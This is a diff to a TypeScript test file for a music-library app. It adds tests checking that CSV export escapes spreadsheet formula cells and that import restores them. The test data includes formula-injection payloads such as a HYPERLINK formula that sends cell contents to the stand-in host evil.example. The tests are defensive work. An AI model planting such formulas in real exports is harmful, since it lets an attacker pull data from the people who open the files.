@@ -3,7 +3,7 @@ import { applyChange } from '../library/change.js';
 import { seededRandom } from '../model/random.js';
 import { EMPTY_LIBRARY } from '../model/records.js';
 import { buildLibrary, setIdOf, songIdOf } from '../testing/fixtures.js';
-import { joinSetNames, libraryCsv, readCsv, splitSetNames } from './csv.js';
+import { joinSetNames, libraryCsv, protectCell, readCsv, splitSetNames, unprotectCell } from './csv.js';
 import { iRealRows, readIReal } from './ireal.js';
 import { planImport } from './plan.js';
 import { readTextLines } from './text.js';
@@ -196,5 +196,89 @@ describe('the import plan', () => {
     const after = applyChange(library, change);
     const miles = Object.values(after.sets).find((set) => set.name === 'Miles')!;
     expect(Object.values(after.memberships).filter((m) => m.set === miles.id)).toHaveLength(2);
+  });
+
+  it('writes a cell a spreadsheet would run with an apostrophe in front, and reads it back as it was', () => {
+    const cells = [
+      '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+      '+1 chorus',
+      '-5 bars',
+      '@SUM(A1)',
+      '\tTabbed',
+      '\rReturned',
+      "'=already quoted",
+      "''@twice",
+      "Don't = stop",
+      "'Round Midnight",
+      'Solar',
+      '',
+    ];
+    expect(cells.map(protectCell)).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A2,"click")`,
+      "'+1 chorus",
+      "'-5 bars",
+      "'@SUM(A1)",
+      "'\tTabbed",
+      "'\rReturned",
+      "''=already quoted",
+      "'''@twice",
+      "Don't = stop",
+      "'Round Midnight",
+      'Solar',
+      '',
+    ]);
+    expect(cells.map(protectCell).map(unprotectCell)).toEqual(cells);
+    // A file written elsewhere: only an apostrophe before what would run is taken off.
+    expect(["'=1+1", "'Round Midnight", "'", "''"].map(unprotectCell)).toEqual([
+      '=1+1',
+      "'Round Midnight",
+      "'",
+      "''",
+    ]);
+  });
+
+  it('exports no cell a spreadsheet would run, and the round trip still gives back every text', () => {
+    const library = buildLibrary({
+      sets: { '=Set()': ['=HYPERLINK("http://evil.example","click")', '-Intro'], '@home': ['+One'] },
+      songs: {
+        '=HYPERLINK("http://evil.example","click")': {
+          notes: '@mention',
+          composer: '-Anon',
+          style: '=Swing',
+        },
+        '-Intro': { notes: '\tindented' },
+        '+One': { notes: "'=kept as typed" },
+      },
+    });
+    const exported = libraryCsv(library);
+    const cells = exported
+      .split('\r\n')
+      .slice(1)
+      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
+      .map((cell) => cell.replace(/^"|"$/g, ''));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(exported.split('\r\n').slice(1)).toEqual([
+      `'-Intro,random,know,'\tindented,,,'=Set()`,
+      `'+One,random,know,''=kept as typed,,,'@home`,
+      `"'=HYPERLINK(""http://evil.example"",""click"")",random,know,'@mention,'-Anon,'=Swing,'=Set()`,
+    ]);
+    const { rows, problems } = readCsv(exported);
+    expect(problems).toEqual([]);
+    const restored = applyChange(EMPTY_LIBRARY, planImport(EMPTY_LIBRARY, rows, context()).change);
+    expect(
+      Object.values(restored.songs)
+        .map((song) => [song.title, song.notes])
+        .sort(),
+    ).toEqual([
+      ['+One', "'=kept as typed"],
+      ['-Intro', '\tindented'],
+      ['=HYPERLINK("http://evil.example","click")', '@mention'],
+    ]);
+    expect(
+      Object.values(restored.sets)
+        .map((set) => set.name)
+        .sort(),
+    ).toEqual(['=Set()', '@home']);
+    expect(libraryCsv(restored)).toBe(exported);
   });
 });
